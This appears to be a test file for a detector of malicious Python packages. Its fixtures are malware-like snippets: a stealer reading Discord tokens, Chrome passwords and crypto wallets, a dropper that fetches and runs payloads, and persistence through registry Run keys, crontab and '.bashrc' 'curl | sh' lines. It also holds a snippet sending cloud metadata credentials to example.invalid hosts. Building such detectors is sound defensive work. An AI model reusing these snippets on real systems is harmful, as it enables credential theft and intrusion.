"""System-impact detectors: reconnaissance, secrets, file operations, persistence.

Snippets are modelled on real samples; URLs point at example.invalid and nothing here
would work if run.
"""

from __future__ import annotations

from tests.conftest import pairs, run_engine
from triage.indicators.engine import EngineResult


def _conf(result: EngineResult, indicator: str) -> dict[int, float]:
    """line -> confidence of one indicator's signals."""
    out: dict[int, float] = {}
    for s in result.signals:
        if s.indicator == indicator:
            path = s.statement_id.rsplit(":", 2)[0]
            out[result.indices[path].get(s.statement_id).start_line] = s.confidence
    return out


def _strong(result: EngineResult, indicator: str, at: float = 0.3) -> set[tuple[str, int]]:
    return {(indicator, line) for line, c in _conf(result, indicator).items() if c >= at}


# --- code_read_system_and_user_info -------------------------------------------------------

RECON = """\
import getpass, platform, socket, os, json
from getpass import getuser as gu
import urllib.request as ur


def send(data):
    ur.urlopen(ur.Request("http://example.invalid/hook", data=data))


def detect():
    username = getpass.getuser()
    hostinfo = platform.uname()
    host = socket.gethostname()
    cwd = os.getcwd()
    who = gu()
    send(json.dumps([username, str(hostinfo), host, cwd, who]).encode())


detect()
"""


def test_recon_collected_and_sent_at_install() -> None:
    result = run_engine({"demo-1.0/setup.py": RECON})
    assert pairs(result, "code_read_system_and_user_info") == {
        ("code_read_system_and_user_info", n) for n in (11, 12, 13, 14, 15)}
    assert min(_conf(result, "code_read_system_and_user_info").values()) >= 0.6


def test_recon_environment_dump_and_commands() -> None:
    src = """\
import os, subprocess, requests
mycode = os.environ
out = subprocess.check_output("whoami /all", shell=True)
requests.post("https://example.invalid/c", data={"e": str(mycode), "o": out})
"""
    result = run_engine({"pkg/__init__.py": src})
    assert _strong(result, "code_read_system_and_user_info") == {
        ("code_read_system_and_user_info", 2), ("code_read_system_and_user_info", 3)}


def test_recon_benign_library_reads() -> None:
    src = """\
import os, platform, subprocess, getpass

HOME = os.environ.get("HOME")
IS_WINDOWS = platform.system() == "Windows"


def run(cmd):
    env = os.environ.copy()
    env["LANG"] = "C"
    return subprocess.run(cmd, env=env)


def default_user():
    return getpass.getuser()
"""
    result = run_engine({"lib/util.py": src})
    assert _strong(result, "code_read_system_and_user_info") == set()


# --- credentials, wallets, directory sweeps -----------------------------------------------

STEALER = r"""
import os, re, shutil, sqlite3, json
local = os.getenv("LOCALAPPDATA")
roaming = os.getenv("APPDATA")
PATHS = {"Discord": roaming + "\\discord\\Local Storage\\leveldb"}
WALLETS = {"Metamask": local + "\\Local Extension Settings\\nkbihfbeogaeaoehlefnkodbefgpgknn",
           "Exodus": roaming + "\\Exodus\\exodus.wallet"}


def tokens(path):
    for name in os.listdir(path):
        for line in open(os.path.join(path, name), errors="ignore"):
            for t in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
                yield t


def passwords():
    db = os.path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data")
    shutil.copy2(db, "tmp.db")
    return sqlite3.connect("tmp.db").execute("SELECT origin_url, password_value FROM logins")


def sweep():
    for root, dirs, files in os.walk(os.path.join(os.environ["USERPROFILE"], "Desktop")):
        for f in files:
            if f.endswith((".txt", ".key", ".wallet")):
                yield os.path.join(root, f)
"""


def test_credentials_wallets_and_sweeps_in_a_stealer() -> None:
    result = run_engine({"pkg/grab.py": STEALER})
    assert _strong(result, "code_read_credentials") == {
        ("code_read_credentials", n) for n in (5, 13, 18, 19, 20)}
    # one dict statement (lines 6-7) names both wallets
    assert _strong(result, "code_read_crypto_wallet") == {("code_read_crypto_wallet", 6)}
    assert _strong(result, "code_enumerate_directory") == {("code_enumerate_directory", 24)}


def test_credentials_benign_lookalikes() -> None:
    src = """\
import os
__all__ = ["Cookies", "Headers", "Request"]


def load_key():
    return open(os.path.expanduser("~/.ssh/id_rsa")).read()


def list_plugins():
    return os.listdir(os.path.dirname(__file__))
"""
    result = run_engine({"lib/client.py": src})
    assert _strong(result, "code_read_credentials") == set()
    assert _strong(result, "code_read_crypto_wallet") == set()
    assert _strong(result, "code_enumerate_directory") == set()


# --- file operations --------------------------------------------------------------------

DROPPER = """\
import os, sys, shutil, subprocess, requests, urllib.request
URL = "http://example.invalid/payload.txt"
data = requests.get(URL)
with open("local_copy.txt", "wb") as fh:
    fh.write(data.content)
open("payload.exe", "wb").write(requests.get(URL).content)
urllib.request.urlretrieve(URL, "run.bat")
subprocess.Popen("cmd /c move local_copy.txt local.bat", shell=True)
os.rename("update.txt", "update.exe")
subprocess.Popen("cmd /c local.bat", shell=True)
subprocess.Popen("cmd /c del local.bat", shell=True)
__import__("o" + "s").remove(__file__)
startup = os.getenv("APPDATA") + "\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"
shutil.copy2(sys.argv[0], startup)
"""


def test_file_operations_of_a_dropper() -> None:
    result = run_engine({"demo-1.0/setup.py": DROPPER})
    assert _strong(result, "code_write_to_disk") == {
        ("code_write_to_disk", 5), ("code_write_to_disk", 6), ("code_write_to_disk", 7)}
    assert _strong(result, "code_rename_file_extension") == {
        ("code_rename_file_extension", 8), ("code_rename_file_extension", 9)}
    assert _strong(result, "code_remove_file") == {
        ("code_remove_file", 11), ("code_remove_file", 12)}
    assert _strong(result, "code_move_file") == {("code_move_file", 14)}
    assert _strong(result, "code_persistence_startup") == {
        ("code_persistence_startup", 13), ("code_persistence_startup", 14)}


def test_file_operations_alias_resolution() -> None:
    src = """\
import os
from os import remove as rm
rm(__file__)
getattr(os, "ren" + "ame")("notes.txt", "notes.txt.locked")
"""
    result = run_engine({"pkg/__init__.py": src})
    assert _strong(result, "code_remove_file") == {("code_remove_file", 3)}
    assert _strong(result, "code_rename_file_extension") == {("code_rename_file_extension", 4)}


def test_file_operations_benign_cleanup_and_config() -> None:
    src = """\
import os, shutil, tempfile


def save(path, text):
    with open(path, "w") as fh:
        fh.write(text)
    tmp = tempfile.mkdtemp()
    shutil.move(path, path + ".bak")
    os.rename("a.txt", "b.txt")
    os.remove(os.path.join(tmp, "x.json"))
    shutil.rmtree(tmp)
"""
    result = run_engine({"lib/store.py": src})
    for indicator in ("code_write_to_disk", "code_rename_file_extension", "code_remove_file",
                      "code_move_file", "code_write_sensitive_path"):
        assert _strong(result, indicator) == set(), indicator


# --- persistence, environment, sensitive paths ------------------------------------------

PERSIST = """\
import os, winreg, subprocess
RUN = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "updater", 0, winreg.REG_SZ, r"C:\\Users\\Public\\u.exe")
with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("curl -s http://example.invalid/x | sh\\n")
os.system('(crontab -l; echo "@reboot python3 /tmp/.x.py") | crontab -')
os.environ["PATH"] = "/tmp/.x:" + os.environ["PATH"]
subprocess.call("setx PYTHONPATH C:\\\\Users\\\\Public", shell=True)
open("/etc/hosts", "a").write("203.0.113.5 pypi.org\\n")
"""


def test_persistence_environment_and_sensitive_writes() -> None:
    result = run_engine({"pkg/__init__.py": PERSIST})
    assert _strong(result, "code_persistence_startup") == {
        ("code_persistence_startup", n) for n in (2, 4, 5, 6, 7)}
    assert _strong(result, "code_modify_environment") == {
        ("code_modify_environment", 8), ("code_modify_environment", 9)}
    assert _strong(result, "code_write_sensitive_path") == {("code_write_sensitive_path", 10)}


def test_persistence_benign_docs_and_env() -> None:
    src = '''\
import os


def completion_help():
    """Add `eval "$(_FOO_COMPLETE=bash_source foo)"` to ~/.bashrc."""
    os.environ["FOO_DEBUG"] = "1"
    with open("settings.cfg", "w") as fh:
        fh.write("[core]\\n")
'''
    result = run_engine({"lib/cli.py": src})
    for indicator in ("code_persistence_startup", "code_modify_environment",
                      "code_write_sensitive_path", "code_write_to_disk"):
        assert _strong(result, indicator) == set(), indicator


# --- calibration: workload credentials and instance metadata ------------------------------

WORKLOAD = """\
import requests
env = open("/proc/self/environ").read()
creds = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/r").text
host = requests.get("http://169.254.169.254/latest/meta-data/hostname").text
requests.post("https://collect.example.invalid/x", data={"e": env, "c": creds, "h": host})
"""


def test_workload_credentials_and_instance_metadata_at_install() -> None:
    res = run_engine({"pkg/setup.py": WORKLOAD})
    assert _strong(res, "code_read_credentials", 0.8) == {
        ("code_read_credentials", 2), ("code_read_credentials", 3)}
    assert _strong(res, "code_read_system_and_user_info", 0.5) == {
        ("code_read_system_and_user_info", 4)}


def test_instance_metadata_lookup_in_an_sdk_function_is_low() -> None:
    src = """\
import requests

def region():
    url = "http://169.254.169.254/latest/meta-data/placement/region"
    return requests.get(url, timeout=1).text
"""
    res = run_engine({"sdk/region.py": src})
    assert pairs(res, "code_read_system_and_user_info") == {
        ("code_read_system_and_user_info", 5)}
    assert _strong(res, "code_read_system_and_user_info", 0.5) == set()


def test_a_startup_file_name_in_a_lookup_table_is_not_persistence() -> None:
    ind = "code_persistence_startup"
    table = "LEXERS = {\n" + "".join(
        f"    'L{i}': ('mod', 'L{i}', ('l{i}',), ('*.l{i}',)),\n" for i in range(9)) + \
        "    'Bash': ('mod', 'Bash', ('bash',), ('*.sh', '.zshrc', '.bashrc')),\n}\n"
    assert pairs(run_engine({"p/_mapping.py": table}), ind) == set()
    small = "RC = ('.zshrc', '.bashrc')\n"
    assert pairs(run_engine({"p/rc.py": small}), ind) == {(ind, 1)}
    write = ("import os\nopen(os.path.expanduser('~/.zshrc'), 'a')"
             ".write('curl -s https://example.invalid/x | sh')\n")
    assert pairs(run_engine({"p/rc.py": write}), ind) == {(ind, 2)}


def test_startup_file_writes_outside_site_directories_are_weaker() -> None:
    """pip writes sitecustomize.py into its temporary build environment; a dropper writes a
    .pth into site-packages."""
    ind = "code_write_sensitive_path"
    temp = """\
        import os, site, tempfile
        system_sites = site.getsitepackages()
        site_dir = os.path.join(tempfile.mkdtemp(), "site")
        with open(os.path.join(site_dir, "sitecustomize.py"), "w") as fp:
            fp.write("import sys; sys.path[:] = {!r}".format(system_sites))
    """
    drop = """\
        import os, site
        target = site.getsitepackages()[0]
        with open(os.path.join(target, "zz.pth"), "w") as fp:
            fp.write("import os; os.system('id')")
    """
    weak = _conf(run_engine({"p/env.py": temp}), ind)
    strong = _conf(run_engine({"p/env.py": drop}), ind)
    assert set(weak) == {5} and set(strong) == {4}
    assert weak[5] <= 0.4 and strong[4] >= 0.7
